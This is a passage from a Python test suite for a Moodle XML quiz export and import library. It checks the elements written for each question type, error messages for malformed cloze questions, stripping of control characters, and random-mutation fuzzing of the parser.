        replace(ONE_OF_EACH[3], extra={"usecase": "1"}), ["<usecase>1</usecase>"], id="usecase"
    ),
    pytest.param(
        ONE_OF_EACH[4],
        ["<tolerance>0.005</tolerance>", "<tolerance>0</tolerance>", "<text>*</text>"],
        id="numerical",
    ),
    pytest.param(
        ONE_OF_EACH[5],
        [
            "<subquestion>\n      <text>cat</text>\n      <answer>\n        <text>meow</text>",
            '<subquestion format="html">',
            "<subquestion>\n      <text></text>",
        ],
        id="matching",
    ),
    pytest.param(
        ONE_OF_EACH[6],
        [
            "<selecttype>ALL</selecttype>",
            "<selectcount>3</selectcount>",
            '<answer fraction="1">\n      <text>one</text>',
            '<answer fraction="3">\n      <text>three</text>',
        ],
        id="ordering",
    ),
    pytest.param(
        ONE_OF_EACH[7],
        [
            '<question type="cloze">',
            "{2:MULTICHOICE_S:=Paris~Rome#No}",
            "{1:NUMERICAL:=3.14:0.01}",
            r"{1:SHORTANSWER:=a\}b\#c\~d#ok~%50%AT&T}",
        ],
        id="cloze",
    ),
    pytest.param(
        ONE_OF_EACH[8],
        ["<responseformat>editor</responseformat>", "<shuffleanswers>false</shuffleanswers>"],
        id="essay",
    ),
]


@pytest.mark.parametrize(("question", "fragments"), EXPORTED_CONTENT)
def test_export_writes_moodle_elements(question, fragments):
    text = export_moodle_xml([question])
    for fragment in fragments:
        assert fragment in text


def test_export_leaves_shuffle_out_where_moodle_has_none_and_it_is_the_default():
    text = export_moodle_xml([ONE_OF_EACH[2], ONE_OF_EACH[9]])
    assert "shuffleanswers" not in text


def test_export_refuses_a_cloze_question_it_cannot_write_naming_it():
    broken = replace(
        ONE_OF_EACH[7],
        name="Broken cloze",
        gaps=(replace(ONE_OF_EACH[7].gaps[0], weight=D("1.5")), *ONE_OF_EACH[7].gaps[1:]),
    )
    with pytest.raises(QuestionFormatError, match=r"question 2 \('Broken cloze'\).*whole number"):
        export_moodle_xml([ONE_OF_EACH[0], broken])


def test_export_drops_characters_xml_cannot_hold():
    question = replace(ONE_OF_EACH[9], stem="bell\x07 and form feed\x0c")
    (back,) = parse_moodle_xml(export_moodle_xml([question]))
    assert back.stem == "bell and form feed"


# Garbage -------------------------------------------------------------------------------------


def test_garbage_never_raises_anything_but_question_format_error():
    rng = random.Random(2024)
    valid = export_moodle_xml(ONE_OF_EACH)
    for _ in range(400):
        chars = list(valid)
        for _ in range(rng.randint(1, 8)):
            position = rng.randrange(len(chars))
            action = rng.random()
            if action < 0.4:
                del chars[position]
            elif action < 0.8:
                chars.insert(position, rng.choice('<>&;"/=![]{}:~#%\x00é\n'))
            else:
                chars[position] = rng.choice("0123456789abcxyz")
        mutated = "".join(chars)
        for data in (mutated, mutated.encode("utf-8", "replace")):
            with contextlib.suppress(QuestionFormatError):
                parse_moodle_xml(data)
    for _ in range(300):
        data = bytes(rng.randrange(256) for _ in range(rng.randint(0, 80)))
        with contextlib.suppress(QuestionFormatError):
            parse_moodle_xml(b"<quiz>" + data)
